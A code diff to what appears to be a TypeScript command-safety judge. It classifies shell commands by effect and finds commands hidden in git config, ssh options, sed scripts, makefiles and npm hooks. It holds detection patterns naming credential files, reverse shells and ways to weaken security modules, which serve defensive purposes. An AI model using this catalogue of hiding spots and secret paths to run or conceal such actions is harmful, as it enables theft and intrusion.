@@ -43,6 +43,10 @@ export const EFFECT_CLASSES: EffectClass[] = [
   { key: "http_delete", description: "HTTP DELETE of a resource on another host, or of a whole index or collection" },
   { key: "remote_access", description: "give a remote host a way in: a reverse shell (a connection with a shell on it) or a reverse tunnel" },
   { key: "boot_config", description: "change how the machine boots (default boot target, boot loader, firmware flash)" },
+  { key: "privilege_grant", description: "grant privileges: cloud IAM admin roles and policies, file capabilities" },
+  { key: "security_change", description: "weaken or change a security module (AppArmor, SELinux, Secure Boot, kernel lockdown)" },
+  { key: "service_change", description: "restart, reload or enable a system service, or end a user's session" },
+  { key: "schedule_job", description: "schedule a command to run later (at, batch, systemd timers)" },
   { key: "symlink_outside_workdir", description: "a path in the working directory that resolves, through a symlink, outside it" },
 ];
 
@@ -68,7 +72,7 @@ const SCRATCH = /^\/(?:tmp|var\/tmp|dev\/shm)\/./;
 const SCRATCH_DIR = /^\/(?:tmp|var\/tmp|dev\/shm)\/*$/;
 const SINK = /^\/dev\/(?:null|zero|full|random|urandom|stdout|stderr|stdin|tty|fd\/\d+|pts\/\d+)$/;
 // `/dev/…/_item_`: what find's `{}` stands for under /dev (analyse.ts findItem), a device node.
-const DEVICE = /^\/dev\/(?:sd[a-z]|hd[a-z]|vd[a-z]|xvd[a-z]|nvme\d|mmcblk\d|md\d|dm-\d|mapper\/|disk\/|loop\d|sr\d|mem$|kmem$|port$|(?:[\w.-]+\/)*_item_$)/;
+const DEVICE = /^\/dev\/(?:sd[a-z]|hd[a-z]|vd[a-z]|xvd[a-z]|nvme\d|mmcblk\d|md\d|dm-\d|mapper\/|disk\/|loop\d|sr\d|mtd|ubi\d|mem$|kmem$|port$|(?:[\w.-]+\/)*_item_$)/;
 const CREDENTIAL =
   /(?:^|\/)(?:\.ssh|\.aws|\.gnupg|\.kube|\.azure|\.docker\/config\.json|\.config\/gcloud|\.hermes-batch|\.hermes|\.netrc|\.pgpass|\.npmrc|\.pypirc|\.git-credentials|\.vault-token|\.terraform\.d\/credentials)(?:\/|$)|^\/etc\/(?:shadow|gshadow|sudoers|passwd|group)(?:$|\.d|-)/;
 const HOME_RE = /^(?:~[^/]*|\$HOME|\$\{HOME\})(?=\/|$)/;
@@ -364,7 +368,9 @@ function judgeChmod(ctx: JudgeContext, name: string): void {
   const args = name === "chmod" ? ctx.args.map((a) => (/^-[rwxXst]+(?:,[ugoa]*[-+=][rwxXst]*)*$/.test(a.text) && !/^-[R]/.test(a.text) ? { ...a, text: "u" + a.text } : a)) : ctx.args;
   const ops = operands(args, name === "setfacl" ? "mMxXb" : "", ["--reference", "--from"]);
   // setuid/setgid: a privilege change wherever the file is
-  if (name === "chmod" && ops[0] && /^[ugoa]*[+=][rwxXt]*s|^[2467][0-7]{3}$/.test(ops[0].text)) return add(ctx, "chmod_outside_workdir");
+  // (setgid alone on directories inside the working directory only makes new files inherit their group.)
+  const setgidOnly = ops[0] && (/^g[+=][rwxXt]*s[rwxXt]*$/.test(ops[0].text) || /^2[0-7]{3}$/.test(ops[0].text));
+  if (name === "chmod" && ops[0] && /^[ugoa]*[+=][rwxXt]*s|^[2467][0-7]{3}$/.test(ops[0].text) && !(setgidOnly && ops.length > 1 && ops.slice(1).every((o) => whereIn(ctx, o.text) === "inside" && !/\.(?:sh|py|pl|rb|bin|exe|so)$/.test(o.text)))) return add(ctx, "chmod_outside_workdir");
   for (const t of ops.slice(modeless)) {
     const w = whereIn(ctx, t.text, !hasFlag(args, "h", ["--no-dereference"]));
     noteInside(ctx, t.text);
@@ -683,6 +689,7 @@ function judgeTeardown(ctx: JudgeContext, name: string): void {
       return;
     case "zfs":
     case "zpool":
+      if (words[0] === "destroy" && hasFlag(args.filter((a) => !a.text.startsWith("--")), "n")) return; // -n: a dry run that lists what would go
       if (words[0] === "destroy" || (name === "zpool" && words[0] === "labelclear") || (name === "zfs" && words[0] === "rollback" && hasFlag(args, "rR"))) add(ctx, "volume_destroy");
       // A pool made on (or grown onto) devices writes over whatever they held.
       else if (name === "zpool" && /^(?:create|add|attach|replace|split)$/.test(words[0] ?? "")) judgeDiskInit(ctx, name);
@@ -1176,6 +1183,9 @@ export function judgeCommand(ctx: JudgeContext): void {
     return;
   }
 
+  judgeEmbeddedCommands(ctx, name);
+  judgeByEffect(ctx, name);
+
   switch (name) {
     // mkdir of a scratch directory: the directory is the command line's own from then on (see madeHere).
     case "mkdir":
@@ -1536,6 +1546,14 @@ function notefetched(ctx: JudgeContext): void {
     for (const r of ctx.redirects) if ((r.op === ">" || r.op === ">>") && !r.fd) ctx.fetched.add(fetchKey(ctx, r.target));
     const o = ctx.args.findIndex((a) => /^-[A-Za-z]*[oO]$/.test(a.text) || a.text === "--output" || a.text === "--output-document" || a.text === "--out");
     if (o >= 0 && ctx.args[o + 1]) ctx.fetched.add(fetchKey(ctx, ctx.args[o + 1]!.text));
+    // aria2c -d DIR -o NAME (also --dir=DIR, --out=NAME) saves DIR/NAME.
+    if (ctx.name === "aria2c") {
+      const texts = ctx.args.map((a) => a.text);
+      const d = texts.findIndex((t) => t === "-d" || t === "--dir");
+      const dir = d >= 0 ? texts[d + 1] : texts.find((t) => t.startsWith("--dir="))?.slice(6);
+      const out = o >= 0 ? ctx.args[o + 1]?.text : texts.find((t) => t.startsWith("--out="))?.slice(6);
+      if (dir && out) ctx.fetched.add(fetchKey(ctx, posix.join(dir, out)));
+    }
     // wget without -O, curl -O / --remote-name: each URL is saved under its basename (wget: under -P DIR).
     const texts = ctx.args.map((a) => a.text);
     const remoteName = ctx.name === "wget" ? !texts.some((t) => /^-[A-Za-z]*O|^--output-document/.test(t)) : ctx.name === "curl" && texts.some((t) => /^-[A-Za-z]*O[A-Za-z]*$|^--remote-name(?:-all)?$/.test(t));
@@ -1885,6 +1903,11 @@ function judgeHttpDelete(ctx: JudgeContext, name: string): void {
     else if (name === "wget" && (/^--method=delete$/i.test(t) || (t === "--method" && /^delete$/i.test(texts[k + 1] ?? "")))) del = true;
     else if (name !== "curl" && name !== "wget" && /^delete$/i.test(t)) del = true;
   }
+  // Elasticsearch/OpenSearch `_delete_by_query` with match_all (or no query): every document of the index, whatever the method.
+  if (texts.some((t) => /\/_delete_by_query\b/.test(t))) {
+    const body = texts.filter((t, k) => /^-(?:d|-data(?:-raw|-binary|-ascii)?)$/.test(texts[k - 1] ?? "") || /^--data(?:-raw|-binary)?=/.test(t)).join(" ");
+    if (!body || /match_all|"query"\s*:\s*\{\s*\}/.test(body) || /[?&]q=\*/.test(texts.join(" "))) return add(ctx, "http_delete");
+  }
   if (!del) return;
   const urls = texts.filter((t) => /^(?:https?:\/\/|(?:localhost|\d+(?:\.\d+){3}|[\w-]+(?:\.[\w-]+)+|\$\{?\w+\}?)(?::\d+)?(?:\/|$))/i.test(t) || (name !== "curl" && name !== "wget" && /^:\d*\//.test(t)));
   if (!urls.length) return add(ctx, "http_delete");
@@ -2042,4 +2065,564 @@ export function producerListsInside(p: Producer | null | undefined, cwd: string,
     return args.some((a) => /^-[A-Za-z]*l/.test(a)) && args.filter((a) => !a.startsWith("-")).slice(1).every((o) => whereIn(ctx, o) === "inside");
   }
   return false;
+}
+
+// ---------------------------------------------------------------------------------------------
+// Text a program runs as a shell command: options, configuration and sub-languages
+
+/** git configuration keys whose value git runs (a shell command, or a git command for an alias without `!`). */
+const GIT_COMMAND_KEY =
+  /^(?:core\.(?:pager|fsmonitor|sshcommand|editor|askpass)|sequence\.editor|diff\.external|(?:diff|merge|filter|difftool|mergetool|browser)\.[^=]+\.(?:command|textconv|driver|clean|smudge|process|cmd)|pager\.[\w-]+|credential(?:\.[^=]+)?\.helper|gpg(?:\.[\w-]+)?\.program|uploadpack\.packobjectshook|interactive\.difffilter|sendemail\.\w*cmd|alias\.[^=]+)$/i;
+
+/** Environment variables whose value a program runs as a command line (a pager, an editor, an ssh command). */
+const COMMAND_ENV = /^(?:GIT_SSH_COMMAND|GIT_PAGER|GIT_EDITOR|GIT_SEQUENCE_EDITOR|GIT_EXTERNAL_DIFF|GIT_ASKPASS|SSH_ASKPASS|SUDO_ASKPASS|PAGER|MANPAGER|SYSTEMD_PAGER|EDITOR|VISUAL|LESSOPEN|LESSCLOSE|RSYNC_RSH|PROMPT_COMMAND)$/;
+
+function gitConfigRuns(ctx: JudgeContext, key: string, value: string): void {
+  if (!GIT_COMMAND_KEY.test(key) || /^(?:true|false|yes|no|on|off|[01])?$/i.test(value.trim())) return;
+  if (/^alias\./i.test(key)) return ctx.analyseShell(value.startsWith("!") ? value.slice(1) : `git ${value}`);
+  // `credential.helper store` names git-credential-store; `!…` (or an absolute path) is a command.
+  if (/^credential/i.test(key) && !/^[!/]/.test(value)) return;
+  ctx.analyseShell(value.replace(/^!/, ""));
+}
+
+/** The shell command an ex/vim command line runs (`:!cmd`, `:r !cmd`, `:w !cmd`, `:%!filter`, `:call system('…')`). */
+function exShell(ctx: JudgeContext, cmd: string): void {
+  let c = cmd.replace(/^[:\s]+/, "").replace(/^(?:sil(?:ent)?!?\s*)+/, "");
+  c = c.replace(/^(?:%|\d+|\$|\.|'[a-z<>])(?:\s*,\s*(?:\d+|\$|\.|'[a-z<>]))?/, "");
+  const bang = /^(?:(?:r(?:ead)?|w(?:rite)?)\s*)?!(.*)$/s.exec(c) ?? /^(?:ter(?:minal)?)\s+(.*)$/s.exec(c);
+  if (bang) return ctx.analyseShell(bang[1]!);
+  const sys = /\b(?:system|systemlist|jobstart|termopen)\s*\(\s*(['"])((?:(?!\1).)*)\1\s*\)/s.exec(c);
+  if (sys) return ctx.analyseShell(sys[2]!);
+  if (/\b(?:system|systemlist|jobstart|termopen)\s*\(/.test(c) || /^exe(?:c(?:ute)?)?\b/.test(c)) return add(ctx, "inline_code_unanalysable");
+  const lang = /^(py(?:thon)?3?|pyx|lua|perl|ruby?)\s+(.*)$/s.exec(c);
+  if (lang) analyseInlineCode(/^p(?:y|ython)/.test(lang[1]!) ? "python" : lang[1] === "lua" ? "lua" : lang[1] === "perl" ? "perl" : "ruby", lang[2]!, ctx);
+}
+
+/** A sed script's `e` commands and `s///e` substitutions (their text runs as a shell command), and `w FILE` writes. */
+function sedShell(ctx: JudgeContext, script: string): void {
+  const addr = String.raw`(?:\d+(?:~\d+)?|\$|\/(?:[^\/\\]|\\.)*\/[IM]*|\\(.)(?:(?!\2).)*\2[IM]*)`;
+  const ADDRESS = new RegExp(String.raw`^\s*(?:${addr}(?:\s*,\s*(?:${addr}|[+~]\d+))?)?\s*!?\s*`, "s");
+  let rest = script;
+  for (let guard = 0; guard < 64 && rest.trim(); guard++) {
+    rest = rest.replace(ADDRESS, "");
+    const c = rest[0];
+    if (c === undefined) break;
+    if (c === "{" || c === "}" || c === ";" || c === "\n") {
+      rest = rest.slice(1);
+      continue;
+    }
+    if (c === "e" || c === "w" || c === "W") {
+      const end = rest.indexOf("\n");
+      const arg = (end < 0 ? rest.slice(1) : rest.slice(1, end)).trim();
+      rest = end < 0 ? "" : rest.slice(end + 1);
+      if (c === "e") {
+        if (arg) ctx.analyseShell(arg);
+        else add(ctx, "shell_input"); // the pattern space, computed from the input, runs
+      } else if (arg) judgeOverwrite(ctx, arg);
+      continue;
+    }
+    if (c === "s" || c === "y") {
+      const d = rest[1];
+      if (d === undefined) break;
+      const parts: string[] = [];
+      let k = 2;
+      let cur = "";
+      for (; k < rest.length && parts.length < 2; k++) {
+        if (rest[k] === "\\" && k + 1 < rest.length) {
+          cur += rest[k]! + rest[k + 1]!;
+          k++;
+        } else if (rest[k] === d) {
+          parts.push(cur);
+          cur = "";
+        } else cur += rest[k];
+      }
+      const flagsEnd = rest.slice(k).search(/[;\n}]/);
+      const flags = flagsEnd < 0 ? rest.slice(k) : rest.slice(k, k + flagsEnd);
+      rest = flagsEnd < 0 ? "" : rest.slice(k + flagsEnd);
+      if (c === "s" && /^[^w]*e/.test(flags)) {
+        const repl = parts[1] ?? "";
+        // The replacement made from the input (`&`, `\1`) is computed text; a literal one is the command.
+        if (/(?<!\\)&|\\\d/.test(repl)) add(ctx, "shell_input");
+        else ctx.analyseShell(repl.replace(/\\(.)/g, (_, x: string) => (x === "n" ? "\n" : x)));
+      }
+      const w = /w\s*(.+)$/.exec(flags);
+      if (c === "s" && w) judgeOverwrite(ctx, w[1]!.trim());
+      continue;
+    }
+    // Commands that take the rest of the line (a, i, c, r, R, b, t, T, :label) or none.
+    if (/[aicrRbtT:]/.test(c)) {
+      const end = rest.search(/\n/);
+      const semi = /[btT:]/.test(c) ? rest.search(/[;\n]/) : end;
+      rest = semi < 0 ? "" : rest.slice(semi + 1);
+      continue;
+    }
+    rest = rest.slice(1);
+  }
+}
+
+/** Recipe lines of a makefile (after the recipe prefix, a tab or .RECIPEPREFIX), as one shell script. */
+function makeRecipes(text: string): string {
+  const prefix = /^\.RECIPEPREFIX\s*[:+?]?=\s*(\S)/m.exec(text)?.[1] ?? "\t";
+  const lines: string[] = [];
+  for (const line of text.split("\n")) {
+    if (line.startsWith(prefix) && line.length > prefix.length) lines.push(line.slice(prefix.length).replace(/^\s*[@+-]+\s*/, "").replace(/\$\$/g, "$"));
+    else {
+      const inline = /^[^:#=\s.][^:=]*::?(?!=)[^;=]*;\s*(.+)$/.exec(line);
+      if (inline) lines.push(inline[1]!.replace(/\$\$/g, "$"));
+    }
+  }
+  return lines.join("\n");
+}
+
+const NPM_BUILTIN = /^(?:access|adduser|audit|bugs|cache|ci|clean-install|completion|config|dedupe|deprecate|diff|dist-tag|docs|doctor|edit|exec|explain|explore|find-dupes|fund|help|hook|init|install|i|in|ins|inst|insta|instal|isntall|add|install-ci-test|install-test|link|ln|login|logout|ls|list|org|outdated|owner|pack|ping|pkg|prefix|profile|prune|publish|query|rebuild|rb|repo|restart|root|run|run-script|rum|urn|search|shrinkwrap|star|stars|start|stop|team|test|t|tst|token|uninstall|remove|rm|un|unlink|unpublish|unstar|update|up|upgrade|version|view|info|show|whoami|why|dlx|x|create|workspace|workspaces|set|get|import|node|env|store|patch|patch-commit|licenses|global|bin|plugin|constraints|dedup|npm|pm|outdated|check|autoclean|generate-lock-entry|tag|policies)$/;
+
+/** The package.json scripts a package manager command runs: lifecycle hooks of an install, `run X` and its pre/post. */
+function packageScripts(name: string, words: string[]): string[] {
+  const verb = words[0];
+  const install = ["preinstall", "install", "postinstall", "prepublish", "preprepare", "prepare", "postprepare"];
+  if (verb === undefined) return name === "yarn" || name === "bun" ? (name === "bun" ? [] : install) : [];
+  if (/^(?:install|i|in|ins|inst|insta|instal|isntall|ci|clean-install|add|rebuild|rb|link|ln|install-test|install-ci-test)$/.test(verb)) return install;
+  const script = /^(?:run|run-script|rum|urn)$/.test(verb) ? words[1] : /^(?:test|t|tst|start|stop|restart)$/.test(verb) ? ({ t: "test", tst: "test" } as Record<string, string>)[verb] ?? verb : name !== "npm" && !NPM_BUILTIN.test(verb) ? verb : undefined;
+  return script ? [`pre${script}`, script, `post${script}`] : [];
+}
+
+/** Options and sub-languages whose value the program runs as a shell command: that text is judged as a command. */
+function judgeEmbeddedCommands(ctx: JudgeContext, name: string): void {
+  const args = ctx.args;
+  const texts = args.map((a) => a.text);
+  for (const e of ctx.env ?? []) if (COMMAND_ENV.test(e.name) && e.value.trim()) ctx.analyseShell(e.value.replace(/^\|+-?/, "").replace(/%s/g, "_item_"));
+  /** Values of an option given as `-X v`, `-Xv`, `--long v` or `--long=v`. */
+  const values = (short: string[], long: string[]): string[] => {
+    const out: string[] = [];
+    for (let k = 0; k < texts.length; k++) {
+      const t = texts[k]!;
+      if ((short.includes(t) || long.includes(t)) && texts[k + 1] !== undefined) out.push(texts[++k]!);
+      else {
+        const l = long.find((o) => t.startsWith(o + "="));
+        if (l) out.push(t.slice(l.length + 1));
+        else {
+          const s = short.find((o) => o.length === 2 && t.startsWith(o) && t.length > 2 && !t.startsWith("--"));
+          if (s) out.push(t.slice(2));
+        }
+      }
+    }
+    return out;
+  };
+  switch (name) {
+    case "git": {
+      for (let k = 0; k < texts.length; k++) {
+        const t = texts[k]!;
+        const pair = t === "-c" ? texts[++k] : /^-c./.test(t) ? t.slice(2) : undefined;
+        if (pair !== undefined) {
+          const m = /^([^=]+)=(.*)$/s.exec(pair);
+          if (m) gitConfigRuns(ctx, m[1]!, m[2]!);
+        } else if (/^(?:-C|--git-dir|--work-tree|--namespace|--exec-path|--config-env)$/.test(t)) k++;
+        else if (!t.startsWith("-")) {
+          if (t !== "config") break;
+          const ops: string[] = [];
+          for (let j = k + 1; j < texts.length; j++) {
+            if (/^(?:-f|--file|--blob|--type|--default|--comment|--value)$/.test(texts[j]!)) j++;
+            else if (!texts[j]!.startsWith("-")) ops.push(texts[j]!);
+          }
+          if (ops[0] === "set") ops.shift();
+          if (ops.length >= 2) gitConfigRuns(ctx, ops[0]!, ops[1]!);
+          break;
+        }
+      }
+      return;
+    }
+    case "tar":
+    case "bsdtar":
+    case "gtar":
+      for (const v of values(["-I", "-F"], ["--to-command", "--use-compress-program", "--info-script", "--new-volume-script", "--rsh-command"])) ctx.analyseShell(v);
+      for (const v of values([], ["--checkpoint-action"])) {
+        const m = /^exec=(.*)$/s.exec(v);
+        if (m) ctx.analyseShell(m[1]!);
+      }
+      return;
+    case "zip":
+      for (const v of values(["-TT"], ["--unzip-command"])) ctx.analyseShell(v);
+      return;
+    case "rsync":
+      for (const v of values(["-e"], ["--rsh"])) ctx.analyseShell(v);
+      return;
+    case "ssh":
+    case "scp":
+    case "sftp":
+    case "autossh":
+    case "sshfs":
+      for (const v of values(["-o"], [])) {
+        const m = /^(?:ProxyCommand|LocalCommand|KnownHostsCommand)\s*[=\s]\s*(.*)$/is.exec(v) ?? /^ssh_command=(.*)$/s.exec(v);
+        if (m && !/^none$/i.test(m[1]!.trim())) ctx.analyseShell(m[1]!.replace(/%[hprnCdilLu%]/g, "x"));
+      }
+      return;
+    case "vim":
+    case "vi":
+    case "nvim":
+    case "ex":
+    case "view":
+    case "gvim":
+    case "vimdiff":
+      for (const v of values(["-c"], ["--cmd"])) exShell(ctx, v);
+      for (let k = 0; k < texts.length; k++) if (/^-[A-Za-z]+c$/.test(texts[k]!) && texts[k + 1] !== undefined) exShell(ctx, texts[k + 1]!); // ex -sc CMD
+      for (const t of texts) if (/^\+./.test(t) && !/^\+\d+$/.test(t)) exShell(ctx, t.slice(1));
+      return;
+    case "sed":
+    case "gsed": {
+      const exprs = values(["-e"], ["--expression"]);
+      const scripts = exprs.length || values(["-f"], ["--file"]).length ? exprs : operands(args, "ef", ["--expression", "--file", "--line-length", "-l"]).slice(0, 1).map((o) => o.text);
+      for (const s of scripts) sedShell(ctx, s);
+      return;
+    }
+    case "man":
+      for (const v of values(["-P"], ["--pager"])) ctx.analyseShell(v);
+      return;
+    case "make":
+    case "gmake":
+    case "bmake":
+    case "remake": {
+      const files = values(["-f"], ["--file", "--makefile"]);
+      for (const v of values([], ["--eval"])) ctx.analyseShell(makeRecipes(v));
+      const candidates = files.length ? files : ["GNUmakefile", "makefile", "Makefile"];
+      for (const f of candidates) {
+        let text: string | null | undefined;
+        if (f === "-" || f === "/dev/stdin") {
+          const here = ctx.redirects.find((r) => r.body !== undefined);
+          if (here) text = here.literal ? here.body! : null;
+          else if (ctx.producer) text = producedLiteral(ctx.producer);
+        } else text = writtenScript(ctx, f) ?? (ctx.root && !f.startsWith("/") ? writtenScript(ctx, posix.join(ctx.root, f)) : undefined);
+        if (text === undefined) continue;
+        if (text === null) add(ctx, "shell_input");
+        else ctx.analyseShell(makeRecipes(text));
+        if (!files.length) break;
+      }
+      return;
+    }
+    case "npm":
+    case "yarn":
+    case "pnpm":
+    case "bun": {
+      const pj = writtenScript(ctx, "package.json") ?? (ctx.root ? writtenScript(ctx, posix.join(ctx.root, "package.json")) : undefined);
+      if (pj === undefined) return;
+      const hooks = packageScripts(name, sub(args));
+      if (!hooks.length) return;
+      let scripts: Record<string, unknown> | undefined;
+      try {
+        scripts = pj === null ? undefined : (JSON.parse(pj) as { scripts?: Record<string, unknown> }).scripts ?? {};
+      } catch {
+        scripts = undefined;
+      }
+      if (!scripts) return add(ctx, "shell_input");
+      for (const h of hooks) if (typeof scripts[h] === "string") ctx.analyseShell(scripts[h] as string);
+      return;
+    }
+  }
+  const lang = interpreterLanguage(name);
+  if (lang === "python") {
+    const m = texts.findIndex((t) => t === "-m");
+    const mod = m >= 0 ? texts[m + 1] : texts.find((t) => /^-m./.test(t))?.slice(2);
+    const after = m >= 0 ? args.slice(m + 2) : args.slice(texts.findIndex((t) => /^-m./.test(t)) + 1);
+    if (mod === "pdb") {
+      for (let k = 0; k < after.length; k++) if ((after[k]!.text === "-c" || after[k]!.text === "--command") && after[k + 1]) analyseInlineCode("python", after[++k]!.text.replace(/^!/, ""), ctx, after[k]!.literal);
+    }
+    // `python3 -m tarfile -e ARCHIVE [DIR]`, `-m zipfile -e ARCHIVE DIR`: extraction into DIR.
+    if (mod === "tarfile" || mod === "zipfile") {
+      const e = after.findIndex((a) => a.text === "-e" || a.text === "--extract");
+      if (e >= 0) extractInto(ctx, after[e + 2]?.text);
+    }
+  }
+  if (lang === "awk") {
+    // gawk -i inplace (also -iinplace, --include=inplace): the file operands are rewritten.
+    if (values(["-i"], ["--include"]).some((v) => /^inplace(?:\.awk)?$/.test(v))) {
+      let k = 0;
+      let program = false;
+      for (; k < texts.length; k++) {
+        const t = texts[k]!;
+        if (/^(?:-[ivFf]|--include|--assign|--field-separator|--file)$/.test(t)) {
+          if (t === "-f" || t === "--file") program = true;
+          k++;
+          continue;
+        }
+        if (t.startsWith("-") && t !== "-") continue;
+        if (!program) {
+          program = true;
+          continue;
+        }
+        if (!/^[A-Za-z_]\w*=/.test(t)) judgeOverwrite(ctx, t);
+      }
+    }
+  }
+}
+
+// ---------------------------------------------------------------------------------------------
+// System state, teardown, grants and remote access judged by effect (more tools)
+
+/**
+ * System services whose restart or reload interrupts the machine's own work (remote login, the container runtime,
+ * the cluster node agent, databases holding data, scheduling, logging, networking, security). Servers an agent
+ * commonly runs for itself (web servers, caches) are not listed.
+ */
+const SYSTEM_UNIT =
+  /^(?:systemd-[\w-]+|systemd|ssh|sshd|openssh-server|docker|containerd|crio|cri-o|kubelet|k3s(?:-agent)?|rke2-(?:server|agent)|etcd|postgresql(?:@[\w.-]+)?|postgres|mysql|mysqld|mariadb|mongod|mongodb|cron|crond|cronie|anacron|atd|rsyslog|syslog-ng|dbus|dbus-broker|NetworkManager|networking|network|wpa_supplicant|chronyd|chrony|ntp|ntpd|auditd|polkit|udev|snapd|firewalld|ufw|nftables|iptables|netfilter-persistent|apparmor|selinux|sssd|libvirtd|getty@[\w.-]+|serial-getty@[\w.-]+|multipathd|iscsid|lvm2-\S+|zfs-\S+|kube-\S+)(?:\.(?:service|socket))?$/;
+
+/** A value of 0 for one of the options (`--desired-count 0`, `--num-nodes=0`). */
+function zeroOption(texts: string[], opts: string[]): boolean {
+  return texts.some((t, k) => (opts.includes(t) && /^0+$/.test(texts[k + 1] ?? "")) || opts.some((o) => t === `${o}=0`)) || texts.some((t) => /(?:^|,)(?:desiredSize|maxSize|DesiredCapacity|MaxSize)=0(?:,|$)/.test(t));
+}
+
+function judgeByEffect(ctx: JudgeContext, name: string): void {
+  const args = ctx.args;
+  const texts = args.map((a) => a.text);
+  const words = sub(args);
+  const all = texts.map((t) => t.toLowerCase());
+  const has = (...xs: string[]) => xs.some((x) => all.includes(x) || all.some((a) => a.startsWith(x + "=")));
+  switch (name) {
+    case "aws": {
+      const [svc, op = ""] = words;
+      // Scaling a group, service or node group to zero stops everything it runs.
+      if (zeroOption(texts, ["--desired-capacity", "--desired-count", "--max-size", "--max-capacity"])) return add(ctx, "cluster_teardown");
+      if (svc === "iam" && /^(?:attach-(?:user|role|group)-policy|put-(?:user|role|group)-policy|add-user-to-group|create-access-key|create-login-profile|update-login-profile|update-assume-role-policy|create-policy-version|set-default-policy-version)$/.test(op)) return add(ctx, "privilege_grant");
+      if (svc === "sso-admin" && /^(?:create-account-assignment|attach-managed-policy-to-permission-set|put-inline-policy-to-permission-set)$/.test(op)) return add(ctx, "privilege_grant");
+      return;
+    }
+    case "gcloud":
+      if (zeroOption(texts, ["--num-nodes", "--size", "--max-nodes", "--max-instances", "--replicas"]) && words.some((w) => /^(?:resize|update|set-autoscaling|scale)$/.test(w))) return add(ctx, "cluster_teardown");
+      if (words.some((w) => w === "add-iam-policy-binding" || w === "set-iam-policy")) return add(ctx, "privilege_grant");
+      if (words[0] === "auth" && words.includes("revoke")) return add(ctx, "credential_write");
+      return;
+    case "az":
+      if (zeroOption(texts, ["--new-capacity", "--node-count", "--count", "--max-count", "--instance-count"]) && words.some((w) => w === "scale" || w === "update")) return add(ctx, "cluster_teardown");
+      if (words[0] === "role" && words[1] === "assignment" && words[2] === "create") return add(ctx, "privilege_grant");
+      if (words[0] === "logout" || (words[0] === "account" && words[1] === "clear")) return add(ctx, "credential_write");
+      return;
+    case "doctl":
+    case "hcloud":
+    case "linode-cli":
+    case "eksctl":
+    case "oci":
+      if (zeroOption(texts, ["--count", "--size", "--nodes", "--nodes-max", "--node-count", "--desired-capacity"]) && words.some((w) => /^(?:update|scale|resize|change-type)$/.test(w))) return add(ctx, "cluster_teardown");
+      return;
+    case "kubectl":
+    case "oc":
+      if (words[0] === "create" && /^(?:clusterrolebinding|rolebinding)$/.test(words[1] ?? "") && all.some((a) => /(?:^|=)cluster-admin$|^--clusterrole=(?:admin|cluster-admin)$/.test(a))) return add(ctx, "privilege_grant");
+      return;
+    // GitOps and backup tools: deleting an application deletes what it deployed; deleting backups loses them.
+    case "argocd":
+      if (words.some((w) => /^(?:delete|rm|remove)$/.test(w)) && words[0] !== "account") return add(ctx, "cluster_teardown");
+      return;
+    case "flux":
+      if (words[0] === "uninstall" || words[0] === "delete") return add(ctx, "cluster_teardown");
+      return;
+    case "velero":
+    case "restic":
+    case "borg":
+    case "kopia":
+      if (name === "velero" && words.some((w) => w === "delete") && words[0] !== "plugin") return add(ctx, "volume_destroy");
+      if ((name === "restic" && (words.includes("forget") || words.includes("prune")) && !has("--dry-run", "-n")) || (name === "borg" && /^(?:delete|prune|compact|recreate)$/.test(words[0] ?? "") && !has("--dry-run", "-n")) || (name === "kopia" && words.includes("delete"))) return add(ctx, "volume_destroy");
+      return;
+    case "snapper":
+      if (words.some((w) => /^(?:delete|rm|remove|cleanup|undochange|rollback|delete-config)$/.test(w))) return add(ctx, "volume_destroy");
+      return;
+    case "timeshift":
+      if (has("--delete", "--delete-all", "--restore")) return add(ctx, "volume_destroy");
+      return;
+    case "bq":
+      if (words[0] === "rm") return add(ctx, has("-d", "--dataset", "-r", "--recursive") ? "sql_drop" : "sql_drop");
+      return;
+    case "nerdctl":
+    case "docker":
+    case "podman":
+    case "ctr":
+      // `rmi -f $(… images -q)`: every image (or container) the listing names.
+      if (/^(?:rm|rmi|kill|stop)$/.test(words.find((w) => !/^(?:container|image|images)$/.test(w)) ?? "") && texts.some((t) => /\$\(|`/.test(t))) return add(ctx, "container_mass_delete");
+      return;
+    case "setcap":
+      if (!has("-v", "--verify") && operands(args).some((o) => /[+=][eip]*[ep]/i.test(o.text) && !/^-r$/.test(o.text))) return add(ctx, "privilege_grant");
+      return;
+    // Security modules: disabling or loosening AppArmor or SELinux, Secure Boot validation, kernel lockdown.
+    case "aa-disable":
+    case "aa-complain":
+    case "aa-audit":
+      return add(ctx, "security_change");
+    case "apparmor_parser":
+      if (has("-r", "-R", "--remove", "--replace", "-a", "--add", "-C", "--complain")) add(ctx, "security_change");
+      return;
+    case "setsebool":
+    case "setenforce":
+    case "semodule":
+    case "chcon":
+    case "restorecon":
+    case "semanage":
+      if (name === "semodule" && !has("-r", "--remove", "-d", "--disable", "-i", "--install", "-X", "-DB", "-B", "-D")) return;
+      if (name === "semanage" && !words.some((w) => /^(?:permissive|boolean|fcontext|port|login|user|module)$/.test(w)) ) return;
+      if (name === "semanage" && !has("-a", "--add", "-m", "--modify", "-d", "--delete", "-D", "--deleteall")) return;
+      if ((name === "chcon" || name === "restorecon") && operands(args, "turlh", ["--user", "--role", "--type", "--range", "--reference"]).every((o) => isInsideLike(whereIn(ctx, o.text)))) return;
+      if (name === "restorecon" && has("-n")) return;
+      if (name === "setenforce" && !/^(?:0|permissive)$/i.test(words[0] ?? "")) return;
+      return add(ctx, "security_change");
+    case "mokutil":
+      if (has("--disable-validation", "--enable-validation", "--import", "--delete", "--reset", "--set-verbosity", "--ignore-db", "--use-db", "--revoke-import", "--sbat-policy", "--trust-mok", "--untrust-mok", "--timeout", "--set-sbat-policy")) add(ctx, "security_change");
+      return;
+    case "grubby":
+      if (all.some((a) => /\b(?:selinux=0|enforcing=0|apparmor=0|security=none|lockdown=none|module\.sig_enforce=0|mitigations=off)\b/.test(a))) return add(ctx, "security_change");
+      if (has("--args", "--remove-args", "--set-default", "--set-default-index", "--add-kernel", "--remove-kernel", "--update-kernel", "--make-default", "--copy-default")) add(ctx, "boot_config");
+      return;
+    case "update-crypto-policies":
+      if (has("--set")) add(ctx, "security_change");
+      return;
+    // Services: a restart or reload of a system service interrupts it; enabling a unit changes what the machine runs at boot.
+    case "systemctl": {
+      const verb = words[0] ?? "";
+      const units = words.slice(1);
+      if (/^(?:enable|reenable|link|add-wants|add-requires|preset|unmask)$/.test(verb)) return add(ctx, units.some((u) => /\.timer$/.test(u)) ? "schedule_job" : "service_change");
+      if (/^(?:start|restart)$/.test(verb) && units.some((u) => /\.timer$/.test(u))) return add(ctx, "schedule_job");
+      if (/^(?:restart|reload|try-restart|reload-or-restart|try-reload-or-restart|condrestart|force-reload|daemon-reexec|switch-root)$/.test(verb) && (verb === "daemon-reexec" || units.some((u) => SYSTEM_UNIT.test(u)))) return add(ctx, "service_change");
+      return;
